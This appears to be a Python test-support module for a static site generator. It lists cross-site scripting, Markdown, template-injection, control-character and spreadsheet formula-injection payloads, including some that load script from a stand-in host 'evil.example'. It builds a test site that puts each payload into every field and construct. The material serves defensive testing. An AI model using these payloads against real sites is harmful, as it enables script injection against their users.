"""Payloads that attack a reader, and a site that has them in every place where text can land."""

from collections.abc import Sequence
from pathlib import Path

from kb.schedules.writing import quoted

PAYLOADS = (
    # elements and handlers
    "<script>alert(1)</script>",
    "<ScRiPt\x0csrc=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<iframe srcdoc='&lt;script>parent.alert(1)&lt;/script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1) autofocus tabindex=1>x</a>",
    "<math><mtext></mtext><a xlink:href=javascript:alert(1)>x</a></math>",
    # ways out of where they stand
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    "` onfocus=alert(1) `",
    "</textarea></title></style></script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script><![CDATA[",
    "</script><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td background='//evil.example/t.png' style='x:expression(alert(1))'>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    # targets
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#x0A;script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://example.org/x",
    "//evil.example/x.png",
    "/\\evil.example/x.png",
    "https:evil.example",
    "view-source:javascript:alert(1)",
    # Markdown that makes them
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "![x](javascript:alert(1))",
    '![x](x.png"onerror="alert(1))',
    "[x][r]\n\n[r]: javascript:alert(1) 'onclick=alert(1)'",
    "<javascript:alert(1)>",
    "<https://e.example/?\"onmouseover=alert(1)>",
    "```\"><img/src=x/onerror=alert(1)>\nx\n```",
    "# <img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "${alert(1)}",
    # characters
    "\u202e\u2066txt.exe\u2069",
    "a\u200bb\u2028c\u2029d\ufeff",
    "\x00\x08\x0b\x1b[31mred\x7f\x9b31m",
    "=cmd|' /C calc'!A0",
)  # fmt: skip
"""Of every class that has broken a site generator, written for this test."""


def _in_line(payload: str) -> str:
    return " ".join(payload.split("\n"))


def attack_note(payload: str) -> str:
    """Return a note with `payload` in every place of it."""
    line = _in_line(payload)
    key = quoted(payload)
    names = quoted(line + " Person")
    text = f"""\
+++
title = {key}
date = 2024-06-03
description = {key}
authors = [{key}]
tags = [{key}]
categories = [{key}]
topics = [{key}]
aliases = [{key}, {quoted("/old/" + payload)}]
cover = {key}
language = {key}
custom = {key}

[event]
name = {quoted("Conf " + payload)}
place = {key}
year = 2024
edition = {key}
series = {quoted("Series " + payload)}
day = {key}

[[talks]]
line = HEADING
name = {key}
speakers = [{key}, {names}]
topics = [{key}, {quoted("T " + payload)}]
abstract = {key}
room = {key}
track = {key}
day = {key}
time = {key}
kind = {key}
recording = {key}
slides = {quoted("https://s.example/" + payload)}

[[talks]]
title = {quoted("No such talk " + payload)}
+++

# {line}

#### Talk {line}

- {line}
- Speaker: {line}
- [{line}](https://ok.example/ "{line}")
- [link]({line})
- [link](<{line}> '{line}')
- https://ok.example/{line}
- 14:30, {line}

> {line}

![{line}]({line} "{line}")
![a](<images/{line}>)
[note](other.md#{line}) [old](/notes/{line}/)

| {line} | b |
|---|---|
| {line} | `{line}` |

```{line}
{line}
```

<p title="{line}" id='{line}' class={line}>{line}</p>

<!-- {line} -->
<!-- kb: topics = {line} -->
<!-- kb: speakers = {line} -->

## Heading {{#{line}}}

Speakers: {line}, {line} Person

Slides: {line} | Video: https://v.example/{line}

{{{{< figure src="{line}" link="{line}" alt="{line}" caption="{line}" >}}}}

{{{{< youtube {line} >}}}} {{{{< tweet user="{line}" id="{line}" >}}}}

[{line}]({{{{< ref "{line}" >}}}})

{{{{< {line} >}}}} {{{{% {line} %}}}}

![][pic] [r][pic] <https://ok.example/{line}> @{line}

[pic]: <{line}> "{line}"

<details><summary>{line}</summary><img alt="{line}" src={line}></details>

Term
: {line}[^1]

[^1]: {line}

{payload}
"""
    before = text.partition("#### Talk")[0]
    return text.replace("HEADING", str(before.count("\n") + 1), 1)


def data_files(payload: str) -> dict[str, str]:
    """Return the data files of a site with `payload` in every place of them."""
    key = quoted(payload)
    web = quoted("https://ok.example/" + _in_line(payload))
    return {
        "people.toml": f"[[people]]\nname = {key}\naliases = [{quoted('P ' + payload)}]\n"
        f"links = [{key}, {web}]\nabout = {key}\n",
        "topics.toml": f"[[topics]]\nname = {key}\nsynonyms = [{quoted('S ' + payload)}]\n"
        f"broader = [{quoted('B ' + payload)}]\nabout = {key}\n",
        "events.toml": f"[[events]]\nname = {quoted('Conf ' + payload)}\nplace = {key}\n"
        f"year = 2024\nseries = {key}\nurl = {key}\nabout = {key}\n"
        f"aliases = [{quoted('E ' + payload)}]\n",
    }


def file_name(payload: str, number: int) -> str:
    """Return a file name that holds as much of `payload` as a name can."""
    kept = "".join(sign for sign in payload if sign not in "/\0")
    data = f"{number:04} {kept}".encode("utf-8", "replace")[:200]
    return data.decode("utf-8", "ignore").rstrip() + ".md"


def write_attack_site(folder: Path, payloads: Sequence[str]) -> None:
    """Write a site into `folder` that has every one of `payloads` everywhere."""
    content = folder / "content"
    content.mkdir(parents=True)
    (folder / "site.toml").write_text(
        'title = "Attacked"\nbase_url = "https://notes.example/"\n[feeds]\n', encoding="utf-8"
    )
    for number, payload in enumerate(payloads):
        text = attack_note(payload).encode("utf-8", "replace")
        (content / file_name(payload, number)).write_bytes(text)
    tables: dict[str, list[str]] = {}
    for payload in payloads:
        for name, table in data_files(payload).items():
            tables.setdefault(name, []).append(table)
    for name, found in tables.items():
        (content / name).write_bytes("\n".join(found).encode("utf-8", "replace"))
